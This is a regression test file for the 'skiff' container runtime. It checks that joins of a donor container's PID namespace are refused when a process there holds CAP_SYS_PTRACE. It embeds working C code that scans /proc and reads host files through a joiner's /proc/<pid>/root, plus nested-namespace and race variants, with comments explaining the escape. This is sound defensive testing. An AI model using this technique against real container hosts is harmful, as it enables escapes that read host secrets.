// Attack: a donor container with CAP_SYS_PTRACE traces the init stage of a container that joins its
// PID namespace (--pid container:NAME). That stage is spawned into the donor's PID namespace and
// holds the host's root, cwd and mount namespace until its pivot_root: non-dumpable does not stop a
// tracer with CAP_SYS_PTRACE of the host's user namespace (docker relies on its LSM profile here:
// AppArmor's docker-default allows ptrace only of peers of the same profile, and runc init is not one).
// The donor's watcher opens /proc/<pid>/root<host file> of every new process it sees: before the
// check it read the host's file through 5 of 5 joiners' stages (2 runs of 2), now every join is refused.

import assert from "node:assert/strict";
import { dirname } from "node:path";
import { compileStatic } from "./cprog.ts";
import { eventually, withDetached } from "./detach_helpers.ts";

const WATCHER_C = `
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
int main(int argc, char **argv) {
  char path[4096], buf[256];
  int self = getpid();
  for (;;) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 1 || pid == self) continue;
      snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[1]);
      int fd = open(path, O_RDONLY);
      if (fd < 0) continue;
      int n = read(fd, buf, sizeof buf - 1);
      if (n > 0) {
        buf[n] = 0;
        int out = open(argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
        dprintf(out, "%d %s", pid, buf);
        close(out);
      }
      close(fd);
    }
    if (d) closedir(d);
  }
}
`;

Deno.test("attack: a --pid donor with CAP_SYS_PTRACE reads the host through a joiner's init stage", async () => {
  const watcher = await compileStatic("pidjoin-watcher", WATCHER_C);
  await withDetached(async (root) => {
    const marker = `${root.path}/host-marker`;
    Deno.writeTextFileSync(marker, "host-secret\n");
    const loot = await Deno.makeTempDir({ prefix: "skiff-loot-" });
    try {
      const r = await root.skiff([
        "run",
        "-d",
        "--name",
        "donor",
        "--cap-add",
        "SYS_PTRACE",
        "-v",
        `${dirname(watcher)}:/w:ro`,
        "-v",
        `${loot}:/loot`,
        "busybox",
        `/w/${watcher.split("/").pop()}`,
        marker,
        "/loot/found",
      ]);
      assert.equal(r.code, 0, r.stderr);
      await eventually("the donor runs", async () => {
        const s = await root.skiff(["inspect", "-f", "{{.State.Running}}", "donor"]);
        return s.stdout.trim() === "true";
      });
      const joins = 5;
      let refused = 0;
      for (let i = 0; i < joins; i++) {
        const j = await root.skiff(["run", "--rm", "--pid", "container:donor", "busybox", "true"]);
        if (j.code === 125) {
          assert.match(
            j.stderr,
            /^skiff: cannot join pid namespace of container [0-9a-f]{64}: a process there holds CAP_SYS_PTRACE and could trace the joining container's setup\n$/,
          );
          refused++;
        } else assert.equal(j.code, 0, j.stderr);
      }
      let found = "";
      try {
        found = Deno.readTextFileSync(`${loot}/found`);
      } catch { /* nothing read */ }
      assert.equal(
        found,
        "",
        `the donor read the host's file through ${
          new Set(found.trim().split("\n").map((l) => l.split(" ")[0])).size
        } of ${joins} joiners' stages`,
      );
      assert.equal(refused, joins);
      // a privileged donor holds all of skiff's capabilities already, and the host's processes (an
      // --pid host donor) see every stage anyway: both are joined, as docker joins them, while the
      // tracing donor still runs
      for (const flags of [["--privileged"], ["--pid", "host"]]) {
        const name = flags[0].slice(2);
        const d = await root.skiff(["run", "-d", "--name", name, ...flags, "busybox", "sleep", "300"]);
        assert.equal(d.code, 0, d.stderr);
        await eventually(`${name} runs its command`, async () => {
          const j = await root.skiff(["run", "--rm", "--pid", `container:${name}`, "busybox", "true"]);
          return j.code === 0;
        });
      }
    } finally {
      await root.skiff(["rm", "-f", "donor"]); // before its loot dir goes
      await Deno.remove(loot, { recursive: true });
    }
  });
});

/**
 * `PROG WATCHER ARGS...` as a donor's PID 1: unshares a PID namespace, starts the watcher as PID 1 of
 * it (it keeps CAP_SYS_PTRACE and the donor's /proc mount), then drops CAP_SYS_PTRACE from its own
 * bounding set: no process of the donor's namespace itself holds it any more. The watcher still
 * reads the donor's /proc, which lists the joiner's stage: with a check of the namespace's own members
 * only it read the host's file through 5 of 5 joiners' stages (2 runs), on the old code 5 of 5.
 */
const NESTED_C = `
#define _GNU_SOURCE
#include <sched.h>
#include <sys/prctl.h>
#include <unistd.h>
int main(int argc, char **argv) {
  if (argc < 2 || unshare(CLONE_NEWPID)) return 1;
  if (fork() == 0) {
    execv(argv[1], argv + 1);
    return 1;
  }
  if (prctl(PR_CAPBSET_DROP, 19 /* CAP_SYS_PTRACE */, 0, 0, 0)) return 1;
  for (;;) pause();
}
`;

Deno.test("attack: a tracer in a PID namespace below the donor's reads the host through a joiner's stage", async () => {
  const watcher = await compileStatic("pidjoin-watcher", WATCHER_C);
  const nested = await compileStatic("pidjoin-nested", NESTED_C);
  await withDetached(async (root) => {
    const marker = `${root.path}/host-marker`;
    Deno.writeTextFileSync(marker, "host-secret\n");
    const loot = await Deno.makeTempDir({ prefix: "skiff-loot-" });
    try {
      const r = await root.skiff([
        "run",
        "-d",
        "--name",
        "donor",
        "--cap-add",
        "SYS_ADMIN",
        "--cap-add",
        "SYS_PTRACE",
        "-v",
        `${dirname(watcher)}:/w:ro`,
        "-v",
        `${loot}:/loot`,
        "busybox",
        `/w/${nested.split("/").pop()}`,
        `/w/${watcher.split("/").pop()}`,
        marker,
        "/loot/found",
      ]);
      assert.equal(r.code, 0, r.stderr);
      // its PID 1 no longer holds CAP_SYS_PTRACE; the watcher below it does
      await eventually("the donor dropped CAP_SYS_PTRACE", async () => {
        const pid = (await root.skiff(["inspect", "-f", "{{.State.Pid}}", "donor"])).stdout.trim();
        try {
          const bnd = /^CapBnd:\s*([0-9a-f]+)$/m.exec(Deno.readTextFileSync(`/proc/${pid}/status`))![1];
          return (BigInt(`0x${bnd}`) & (1n << 19n)) === 0n;
        } catch {
          return false;
        }
      });
      const joins = 5;
      let refused = 0;
      for (let i = 0; i < joins; i++) {
        const j = await root.skiff(["run", "--rm", "--pid", "container:donor", "busybox", "true"]);
        if (j.code === 125) {
          assert.match(j.stderr, /a process there holds CAP_SYS_PTRACE/);
          refused++;
        } else assert.equal(j.code, 0, j.stderr);
      }
      let found = "";
      try {
        found = Deno.readTextFileSync(`${loot}/found`);
      } catch { /* nothing read */ }
      const stages = new Set(found.trim().split("\n").filter(Boolean).map((l) => l.split(" ")[0])).size;
      assert.equal(
        found,
        "",
        `the nested watcher read the host's file through ${stages} of ${joins} joiners' stages`,
      );
      assert.equal(refused, joins);
    } finally {
      await root.skiff(["rm", "-f", "donor"]);
      await Deno.remove(loot, { recursive: true });
    }
  });
});

// Attack: two containers join the same PID namespace at once, one of them (the tracer) with
// --cap-add SYS_PTRACE and a hostile image, the other (the victim) a plain container. The victim's
// check looked at the namespace while the tracer was still its stage (all of skiff's capabilities:
// skipped), then the tracer exec'd its watcher while the victim's stage still held the host's root.
// Before joins were serialised (one joiner of a namespace from its check to its execve), 2 of the
// 16 victims of a run got past the check, and the watcher read the host's file through both: 3 of 3
// runs of this test failed. Since, every victim either waits for the tracer's execve and is refused,
// or runs before the tracer execs; 0 of 3 runs read anything.
Deno.test("attack: a joiner with CAP_SYS_PTRACE starts together with another joiner and reads the host through its stage", async () => {
  const watcher = await compileStatic("pidjoin-watcher", WATCHER_C);
  await withDetached(async (root) => {
    const marker = `${root.path}/host-marker`;
    Deno.writeTextFileSync(marker, "host-secret\n");
    const loot = await Deno.makeTempDir({ prefix: "skiff-loot-" });
    try {
      await root.ok(["run", "-d", "--name", "donor", "busybox", "sleep", "300"]);
      for (let i = 0; i < 16; i++) {
        const tracer = root.skiff([
          "run",
          "-d",
          "--name",
          `tracer${i}`,
          "--cap-add",
          "SYS_PTRACE",
          "--pid",
          "container:donor",
          "-v",
          `${dirname(watcher)}:/w:ro`,
          "-v",
          `${loot}:/loot`,
          "busybox",
          `/w/${watcher.split("/").pop()}`,
          marker,
          "/loot/found",
        ]);
        // the victim's start at different points of the tracer's
        await new Promise((r) => setTimeout(r, (i % 8) * 25));
        const victim = await root.skiff(["run", "--rm", "--pid", "container:donor", "busybox", "true"]);
        if (victim.code === 125) assert.match(victim.stderr, /a process there holds CAP_SYS_PTRACE/);
        else assert.equal(victim.code, 0, victim.stderr);
        const t = await tracer;
        assert.equal(t.code, 0, t.stderr);
        await root.ok(["rm", "-f", `tracer${i}`]);
      }
      let found = "";
      try {
        found = Deno.readTextFileSync(`${loot}/found`);
      } catch { /* nothing read */ }
      assert.equal(
        found,
        "",
        `a tracer read the host's file through ${
          new Set(found.trim().split("\n").map((l) => l.split(" ")[0])).size
        } victims' stages`,
      );
    } finally {
      const ids = root.containerIds();
      if (ids.length) await root.skiff(["rm", "-f", ...ids]); // before the loot dir goes
      await Deno.remove(loot, { recursive: true });
    }
  });
});
